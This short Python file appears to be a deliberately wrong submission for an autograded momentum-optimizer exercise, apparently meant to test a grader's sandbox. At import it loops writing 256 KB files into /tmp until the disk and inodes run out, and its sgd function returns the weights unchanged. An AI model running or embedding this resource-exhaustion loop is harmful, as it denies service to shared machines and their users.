"""optim_momentum wrong_answer 0: fills scratch to the last byte and the last inode."""

import os

number = 0
try:
    while True:
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 18))
        number += 1
except OSError:
    pass


def sgd(w, dw, config=None):
    return w, config
